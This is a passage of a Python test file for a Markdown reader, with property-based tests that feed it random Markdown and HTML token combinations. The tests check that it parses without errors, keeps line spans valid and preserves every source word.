@pytest.mark.parametrize("name", list(PATHOLOGICAL))
def test_pathological_input_is_read_and_keeps_its_words(name: str) -> None:
    """Each of these once took quadratic time somewhere; the time is measured in benchmarks/markdown_pathological.py."""
    md = read(PATHOLOGICAL[name])
    assert source_words(PATHOLOGICAL[name]) <= words(shown(md) + " " + " ".join(d.message for d in md.diagnostics)) | {"amp"}


# --- properties ----------------------------------------------------------------------------------------

TOKENS = st.one_of(
    st.text(max_size=8),
    st.sampled_from([
        "\n", "\n\n", "- ", "1. ", "2) ", "> ", "#", "## ", "```", "~~~", "    ", "[^1]", "[^1]: ", "[x]", "(u)",
        "[x]: u", "<div>", "</div>", "<!--", "-->", "<script>", "</script>", "{%", "%}", "{{", "}}", "*", "**", "_",
        "`", "|", "---", "===", "\\", "&amp;", "&", '<a href="u">', "</a>", "\t", "![", "]", "[", "(", ")", ":::",
        "{:", ">}}", "{{<", "\ue000", "\ue002", "\r", "--", "Term\n: def",
    ]),
)


@settings(max_examples=300, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.lists(TOKENS, max_size=80).map("".join))
def test_any_text_is_read_without_error(text: str) -> None:
    md = read(text)
    source_lines = text.replace("\r\n", "\n").replace("\r", "\n").count("\n") + 1
    spans = [p.span for p in md.all_paragraphs()] + [s.span for s in md.all_sections()] + [r.span for r in md.references]
    spans += [n.paragraph.span for n in md.notes] + [d.span for d in md.diagnostics if d.span]
    assert all(1 <= span.line <= max(source_lines, 1) for span in spans)
    assert "\ue000" not in shown(md) and "\ue002" not in shown(md)
    assert {n.marker for n in md.notes} >= {node.marker for p in md.all_paragraphs() for node in p.inlines
                                            if isinstance(node, NoteRef)}
    assert all(len(n.marker) <= 12 for n in md.notes)
    assert read(text) == md


_W = st.text(alphabet="bcdfghjklmnpqrstvwxz", min_size=4, max_size=8)  # no vowels: never a syntax word
FRAGMENTS = [
    "{w}", "**{w}**", "_{w}_", "*{w}*", "`{w}`", "[{w}](https://x.org/{w})", "![{w}]({w}.png)", "<https://x.org/{w}>",
    "<sub>{w}</sub>", '<span class="c">{w}</span>', "&amp;{w}", "{w}[^n1]", "\n\n# {w}\n\n",
    "\n\n## {w}\n\n", "\n- {w}", "\n1. {w}", "\n\n> {w}\n\n", "\n\n```\n{w}\n```\n\n", "\n\n    {w}\n\n",
    "\n\n| {w} | {w} |\n|---|---|\n| {w} | {w} |\n\n", "\n\n<div>{w}</div>\n\n", "\n\n<script>{w}</script>\n\n",
    '\n\n{{% include figure.html filename="{w}.png" caption="{w}" %}}\n\n', "\n\n{w}\n---\n\n",
    "\n\n[^n1]: {w}\n\n", "\n\n[^n2]: {w}\n    {w}\n\n", "\n\n<!-- {w} -->\n\n", "\n\n[r{w}]: https://x.org/{w}\n\n",
    "{w} -- {w}", "\n\n{w}\n: {w}\n\n", "{{{{ {w} }}}}",
]


@settings(max_examples=300, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.lists(st.tuples(st.sampled_from(FRAGMENTS), _W), max_size=40))
def test_every_word_survives(parts: list[tuple[str, str]]) -> None:
    text = "Start " + " ".join(fragment.format(w=word) for fragment, word in parts)
    md = read(text)
    pool = words(shown(md) + " " + " ".join(d.message for d in md.diagnostics))
    assert {word for _, word in parts} <= pool
    # Only comments, unused link definitions and dropped template tags are left to the diagnostics.
    in_text = words(shown(md))
    for fragment, word in parts:
        if "<!--" not in fragment and "[r{w}]" not in fragment and "{{{{" not in fragment:
            assert word in in_text, (fragment, word)
